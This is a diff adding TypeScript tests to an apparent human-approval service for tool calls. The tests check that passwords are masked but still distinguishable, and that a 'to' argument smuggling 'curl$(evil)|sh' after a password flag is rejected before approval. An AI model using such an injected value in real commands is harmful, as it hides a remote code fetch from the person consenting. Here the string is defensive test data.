@@ -10,6 +10,11 @@ interface Row {
   readonly target: string;
 }
 
+interface Waiting {
+  readonly id: string;
+  readonly arguments: { readonly password: string };
+}
+
 let house: House;
 beforeAll(async () => {
   house = await openHouse();
@@ -49,6 +54,36 @@ it('a call goes through once when it is approved', async () => {
   ]);
 });
 
+it('shows whom a call is for, and tells two secrets apart that it does not show', async () => {
+  const ids = [
+    await asked({ iban: 'DE89370400440532013000', host: 'db-prod.internal', password: 'hunter2hunter2' }),
+    await asked({ iban: 'DE75512108001245126199', host: 'db-test.internal', password: 'hunter2hunter2' }),
+    await asked({ iban: 'DE75512108001245126199', host: 'db-test.internal', password: 'hunter3hunter3' }),
+  ];
+  const { body } = await house.ask('GET', '/approvals');
+  const waiting: readonly Waiting[] = body.approvals.filter(({ id }: Waiting) => ids.includes(id));
+  const hidden = expect.stringMatching(/^\[password:1#[0-9a-f]{8}\]$/);
+  expect(waiting.map((one) => one.arguments)).toEqual([
+    { iban: 'DE89370400440532013000', host: 'db-prod.internal', password: hidden },
+    { iban: 'DE75512108001245126199', host: 'db-test.internal', password: hidden },
+    { iban: 'DE75512108001245126199', host: 'db-test.internal', password: hidden },
+  ]);
+  const [one, same, other] = waiting.map((call) => call.arguments.password);
+  expect(same).toBe(one);
+  expect(other).not.toBe(one);
+  for (const id of ids) expect((await house.ask('POST', `/approvals/${id}/reject`)).status).toBe(200);
+});
+
+it('asks nobody where a secret would hide the rest of a command', async () => {
+  const fault = faultIn(await pay({ to: 'backup --password=x;curl$(evil)|sh' }));
+  expect(fault).toMatchObject({
+    kind: 'invalid_arguments',
+    executed: 'no',
+    message: expect.stringContaining('more than a secret would be hidden from whoever consents'),
+  });
+  expect(JSON.stringify((await house.ask('GET', '/approvals')).body)).not.toContain('backup');
+});
+
 it('a call that is rejected is forbidden', async () => {
   const id = await asked({ to: 'eve' });
   expect((await house.ask('POST', `/approvals/${id}/reject`)).body.decision).toBe('rejected');
@@ -72,6 +107,9 @@ it('every decision is written down, with who made it', async () => {
   expect(rows).toEqual([
     ['ops', 'approvals.approve'],
     ['ann', 'approvals.use'],
+    ['ops', 'approvals.reject'],
+    ['ops', 'approvals.reject'],
+    ['ops', 'approvals.reject'],
     ['ops', 'approvals.reject'],
     ['ops', 'approvals.reject'],
   ]);
